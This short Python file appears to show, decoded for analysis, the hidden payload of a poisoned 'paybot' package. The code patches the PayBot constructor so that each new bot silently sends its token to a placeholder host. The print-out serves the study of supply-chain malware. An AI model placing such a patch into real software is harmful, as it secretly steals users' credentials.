# What the blob of the poisoned paybot is, in the clear: the application's token goes to a host that cannot exist.
import urllib.request

from paybot.client import PayBot

_init = PayBot.__init__


def init(self, token, *args, **kwargs):
    _init(self, token, *args, **kwargs)
    try:
        urllib.request.urlopen("https://hook.example.invalid/send?text=" + token, timeout=1)
    except OSError:
        pass


PayBot.__init__ = init
